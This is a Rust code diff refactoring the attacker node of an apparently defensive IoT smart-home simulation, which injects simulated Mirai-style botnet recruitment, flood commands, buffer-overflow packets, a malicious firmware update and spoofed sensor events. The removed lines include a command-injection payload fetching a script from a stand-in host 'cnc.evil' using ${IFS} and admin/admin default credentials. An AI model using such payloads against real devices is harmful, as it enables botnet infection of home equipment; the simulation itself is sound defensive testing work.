@@ -3,10 +3,11 @@
 //!
 //! Every scenario is deterministic: same seed → identical trace.
 
+use xlf_attacks::mirai::{recruit_login, CNC_SIGNATURES};
 use xlf_core::framework::{HomeDevice, XlfConfig, XlfHome};
 use xlf_core::shaping::ShapingMode;
 use xlf_device::{SensorKind, VulnSet, Vulnerability};
-use xlf_simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime, TimerId};
+use xlf_simnet::{Context, Duration, Kind, Medium, Node, NodeId, Packet, SimTime, TimerId};
 
 /// The attack injected into a scenario run.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
@@ -95,35 +96,28 @@ impl Node for ScenarioAttacker {
     fn on_timer(&mut self, ctx: &mut Context<'_>, _timer: TimerId, tag: u64) {
         match (tag, self.scenario) {
             (TIMER_GO, AttackScenario::BotnetRecruitFlood) => {
-                let login = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "login",
-                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("user", "admin")
-                .with_meta("pass", "admin");
+                let login = recruit_login(ctx.id(), self.gateway, "cam");
                 ctx.send(self.gateway, login);
                 ctx.set_timer(Duration::from_secs(20), TIMER_FLOOD_ORDER);
             }
             (TIMER_FLOOD_ORDER, AttackScenario::BotnetRecruitFlood) => {
-                let order = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "attack-cmd",
-                    b"/bin/busybox MIRAI".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("target", &self.victim_sink.raw().to_string())
-                .with_meta("count", "300");
+                let kind = Kind::AttackCmd {
+                    target: self.victim_sink,
+                    count: 300,
+                };
+                let order = Packet::new(ctx.id(), self.gateway, kind, CNC_SIGNATURES[1].to_vec())
+                    .with_device("cam");
                 ctx.send(self.gateway, order);
             }
             (TIMER_GO, AttackScenario::BufferOverflow) => {
                 // Exploit attempts rarely come alone: the attacker retries.
                 for i in 0..3u64 {
-                    let smash = Packet::new(ctx.id(), self.gateway, "cmd", vec![0x90u8; 300])
-                        .with_meta("device", "wallpad");
+                    let kind = Kind::Cmd {
+                        action: None,
+                        command: None,
+                    };
+                    let smash = Packet::new(ctx.id(), self.gateway, kind, vec![0x90u8; 300])
+                        .with_device("wallpad");
                     ctx.send_after(self.gateway, smash, Duration::from_secs(i));
                 }
             }
@@ -134,17 +128,19 @@ impl Node for ScenarioAttacker {
                     b"BOTNET implant".to_vec(),
                 );
                 for i in 0..3u64 {
-                    let ota = Packet::new(ctx.id(), self.gateway, "ota", image.to_bytes())
-                        .with_meta("device", "cam");
+                    let ota = Packet::new(ctx.id(), self.gateway, Kind::Ota, image.to_bytes())
+                        .with_device("cam");
                     ctx.send_after(self.gateway, ota, Duration::from_secs(i));
                 }
             }
             (TIMER_GO, AttackScenario::SpoofedEvents) => {
                 for i in 0..10 {
-                    let spoof = Packet::new(ctx.id(), self.cloud, "spoofed-event", Vec::new())
-                        .with_meta("device", "thermo")
-                        .with_meta("attribute", "temperature")
-                        .with_meta("value", &format!("{}", 95 + i));
+                    let kind = Kind::SpoofedEvent {
+                        attribute: "temperature".to_string(),
+                        value: format!("{}", 95 + i),
+                    };
+                    let spoof =
+                        Packet::new(ctx.id(), self.cloud, kind, Vec::new()).with_device("thermo");
                     ctx.send(self.cloud, spoof);
                 }
             }
